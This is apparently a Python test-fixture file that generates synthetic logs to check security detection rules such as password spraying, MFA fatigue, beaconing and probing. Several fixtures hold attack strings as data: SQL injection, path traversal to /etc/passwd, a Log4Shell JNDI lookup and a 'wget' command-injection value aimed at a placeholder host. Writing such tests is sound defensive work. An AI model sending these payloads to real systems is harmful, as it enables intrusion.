"""For each rule of the pack a small log of what it must find, and one of what it must leave alone."""

import json
from datetime import UTC, datetime, timedelta

NOON = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)


def lines(events):
    """Events (second, fields) as JSON lines."""
    return "".join(
        json.dumps({"time": (NOON + timedelta(seconds=second)).isoformat(), **fields}, ensure_ascii=False) + "\n"
        for second, fields in events
    )


def web(requests):
    """Requests (second, address, path, status[, agent]) as a web access log."""
    return "".join(
        f'{address} - - [{NOON + timedelta(seconds=second):%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} 99 '
        f'"-" "{(*agent, "Mozilla/5.0")[0]}"\n'
        for second, address, path, status, *agent in requests
    )


def login(second, user, outcome, **more):
    return second, {"class": "auth", "action": "login", "outcome": outcome, "user": user, **more}


def failures(users, seconds, **more):
    return [login(second, user, "failure", **more) for user, second in zip(users, seconds, strict=True)]


def names(client, count, name, rcode="NXDOMAIN", every=2):
    return [
        (every * n, {"class": "dns", "src_ip": client, "query": name.format(n), "rcode_name": rcode})
        for n in range(count)
    ]


def connections(seconds, dst="203.0.113.9", port=443):
    return [
        (second, {"class": "conn", "src_ip": "10.1.1.1", "dst_ip": dst, "dst_port": port, "proto": "tcp"})
        for second in seconds
    ]


def transfer(second, user, action, **more):
    return second, {"class": "transfer", "action": action, "user": user, "outcome": "success", **more}


def session(second, **more):
    return second, {"class": "web", "url": "https://ib.bank.example/balance", "session_id": "s-1", **more}


MADE_UP = [
    "xkqzvbtrw.com", "qpwlkzhgfd.net", "bvcxzlkjhg.org", "a1b2c3d4e5f6.com", "zxcvbnmqwrt.biz", "k3j9x2m1q8.info",
    "wqrtpsdfgh.com", "mnbvcxzlkj.net", "plkjhgfdsz.org", "trwqzxcvbn.com", "hjklzxcvbn.net",
]  # fmt: skip
EVEN = [60 * n + n % 3 for n in range(25)]
UNEVEN = [60 * n + (n * n * 7) % 55 for n in range(25)]
PROBED = ["/wp-login.php", "/phpmyadmin/index.php", "/administrator/", "/manager/html", "/%61dmin/", "/console/"]
LEFT = ["/.env", "/backup.sql", "/.git/config", "/wp-config.php"]

CASES = {
    "Burst of failed logins for one user": (
        lines(failures(["taro"] * 10, range(0, 590, 59))),
        lines([*failures(["taro"] * 10, range(0, 1000, 100)), *(login(n, "jiro", "success") for n in range(20))]),
    ),
    "Password spraying from one address": (
        lines(failures([f"u{n}" for n in range(15)], range(0, 1500, 100), src_ip="203.0.113.7")),
        lines(
            failures([f"u{n % 5}" for n in range(30)], range(0, 1500, 50), src_ip="203.0.113.7")
            + [event for n in range(15) for event in failures([f"v{n}"], [n], src_ip=f"198.51.100.{n}")]
        ),
    ),
    "One address logs in to many accounts": (
        lines(login(60 * n, f"u{n}", "success", src_ip="203.0.113.7") for n in range(10)),
        lines(login(600 * n, f"u{n}", "success", src_ip="203.0.113.7") for n in range(10)),
    ),
    "One device logs in to many accounts": (
        lines(login(3600 * n, f"u{n}", "success", device="d-1") for n in range(5)),
        lines(login(3600 * n, f"u{n % 2}", "success", device="d-1") for n in range(9)),
    ),
    "One user in two countries within hours": (
        lines([login(0, "taro", "success", country="JP"), login(7200, "taro", "success", country="BR")]),
        lines(
            [
                login(0, "taro", "success", country="JP"),
                login(15000, "taro", "success", country="BR"),
                login(0, "jiro", "success", country="JP"),
                login(60, "jiro", "failure", country="BR"),
            ]
        ),
    ),
    "The second factor is asked for again and again": (
        lines((60 * n, login(0, "taro", "failure")[1] | {"action": "mfa push"}) for n in range(5)),
        lines((60 * n, login(0, "taro", "success")[1] | {"action": "mfa push"}) for n in range(9)),
    ),
    "A transfer soon after a new payee": (
        lines([transfer(0, "taro", "振込先登録"), transfer(900, "taro", "振込", beneficiary="1234567")]),
        lines(
            [
                transfer(0, "taro", "振込", beneficiary="1234567"),
                transfer(60, "taro", "振込先登録"),
                transfer(0, "jiro", "add_payee"),
                transfer(7200, "jiro", "transfer", beneficiary="1234567"),
            ]
        ),
    ),
    "Many users pay one account": (
        lines(transfer(3600 * n, f"u{n}", "transfer", beneficiary="7654321") for n in range(5)),
        lines(transfer(3600 * n, f"u{n % 2}", "transfer", beneficiary="7654321") for n in range(9)),
    ),
    "Another device within one session": (
        lines([session(0, device="d-1"), session(60, device="d-1"), session(120, device="d-2")]),
        lines([session(0, device="d-1"), session(60, device="d-1"), session(120)]),
    ),
    "Another browser within one session": (
        lines([session(0, user_agent="Firefox"), session(120, user_agent="curl")]),
        lines([session(0, user_agent="Firefox"), session(120, user_agent="Firefox")]),
    ),
    "One address tries pages of administration": (
        web((n, "203.0.113.7", path, 404) for n, path in enumerate(PROBED)),
        web(
            [
                *((n, "203.0.113.7", "/admin/", 200) for n in range(9)),
                *((n, "203.0.113.8", "/a", 404) for n in range(9)),
            ]
        ),
    ),
    "One address asks for secrets left behind": (
        web((n, "203.0.113.7", path, 404) for n, path in enumerate(LEFT)),
        web((n, "203.0.113.7", path, 200) for n, path in enumerate(["/.env", "/a.css", "/environment", "/keys/"])),
    ),
    "SQL injection tried": (
        web([(0, "203.0.113.7", "/list?id=1%27%20OR%201%3D1--", 200), (9, "203.0.113.7", "/?q=1+UNION+SELECT+2", 500)]),
        web(
            [
                (0, "203.0.113.7", "/search?q=union+bank+and+selection", 200),
                (1, "203.0.113.7", "/?q=black+or+white", 200),
            ]
        ),
    ),
    "Path traversal tried": (
        web([(0, "203.0.113.7", "/show?file=../../../etc/passwd", 200), (9, "203.0.113.7", "/%252e%252e%252fx", 404)]),
        web([(0, "203.0.113.7", "/docs/etc/index.html", 200), (1, "203.0.113.7", "/a/../b.css", 200)]),
    ),
    "Log4Shell or command injection tried": (
        web(
            [(0, "203.0.113.7", "/", 200, "${jndi:ldap://x.example/a}"), (9, "203.0.113.7", "/?a=;wget+x.example", 404)]
        ),
        web([(0, "203.0.113.7", "/", 200, "curl/8.0"), (1, "203.0.113.7", "/?price=$%7B10%7D", 200)]),
    ),
    "One client asks for many names that do not exist": (
        lines(names("10.1.1.1", 50, "shop-{}.example")),
        lines(names("10.1.1.1", 60, "shop-{}.example", "NOERROR") + names("10.1.1.2", 60, "host{}.corp")),
    ),
    "One client asks for names that look made up": (
        lines((n, names("10.1.1.1", 1, name)[0][1]) for n, name in enumerate(MADE_UP)),
        lines(names("10.1.1.1", 20, "summer-sale-{}.example") + names("10.1.1.2", 20, MADE_UP[0])),
    ),
    "Connections at even intervals to one destination": (
        lines(connections(EVEN)),
        lines(connections(UNEVEN) + connections(EVEN, dst="10.2.2.2") + connections(EVEN, port=123)),
    ),
    "Requests at even intervals to one site": (
        lines((s, {"class": "web", "src_ip": "10.1.1.1", "url": "https://c2.example/x"}) for s in EVEN),
        lines((s, {"class": "web", "src_ip": "10.1.1.1", "url": "https://news.example/x"}) for s in UNEVEN),
    ),
    "One machine tries many others inside": (
        lines(event for n in range(20) for event in connections([n], dst=f"10.9.0.{n}", port=445)),
        lines(event for n in range(20) for event in connections([n], dst=f"10.9.0.{n}", port=443)),
    ),
}
